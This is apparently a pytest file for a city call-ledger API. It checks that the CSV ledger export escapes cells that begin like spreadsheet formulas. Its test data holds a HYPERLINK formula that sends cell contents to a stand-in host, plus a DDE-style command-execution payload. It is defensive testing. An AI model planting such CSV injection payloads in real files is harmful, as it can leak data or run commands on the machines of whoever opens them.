"""Somebody names a purpose or a department like a formula, and waits for the city to publish its ledger."""

from __future__ import annotations

import csv
from dataclasses import replace
from io import StringIO

import pytest
from fastapi.testclient import TestClient

from api import ledger_file
from api.app import create_app
from api.sessions import COOKIE
from core.actors import Role
from core.profile.purposes import ListedPurpose
from tests.office import HOKEN, Office

pytestmark = pytest.mark.real

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"開示請求")'


@pytest.fixture
def published(office: Office) -> list[list[str]]:
    """Open a call five times for a purpose that is a formula, in a department that is one; read the file."""
    profile = office.parts.profile.model_copy(
        update={
            "purposes": (ListedPurpose(id="fact-check", name=FORMULA),),
            "departments": tuple(
                one.model_copy(update={"name": "@SUM(1+1)*cmd|' /C calc'!A0"}) if one.id == HOKEN else one
                for one in office.parts.profile.departments
            ),
        }
    )
    office.record(office.call("a"), seconds=1.0)
    account = office.account("kanri", Role.SUPERVISOR)
    app = create_app(replace(office.parts, profile=profile))
    with TestClient(app, base_url="https://testserver") as client:
        cookie = app.state.sessions.open(account)
        client.cookies.set(COOKIE, cookie)
        for _ in range(5):
            client.post(
                "/calls/city-a.0/open",
                data={"csrf": app.state.sessions.find(cookie).csrf, "purpose": "fact-check"},
                follow_redirects=False,
            )
        answer = client.get("/ledger/file")
    assert answer.status_code == 200
    return list(csv.reader(StringIO(answer.content.decode("utf-8-sig"))))[1:]


def begins_like_a_formula(rows: list[list[str]]) -> bool:
    return any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.fixture
def unguarded(monkeypatch: pytest.MonkeyPatch) -> None:
    """The one guard, switched off: cells go into the file as they are."""
    monkeypatch.setattr(ledger_file, "harmless", str)


def test_a_formula_is_a_word_in_the_published_ledger(published: list[list[str]]) -> None:
    assert [row[2] for row in published] == [f"'{FORMULA}"] * 2
    assert not begins_like_a_formula(published)


@pytest.mark.usefixtures("unguarded")
def test_without_its_guard_the_formula_would_run(request: pytest.FixtureRequest) -> None:
    assert begins_like_a_formula(request.getfixturevalue("published"))
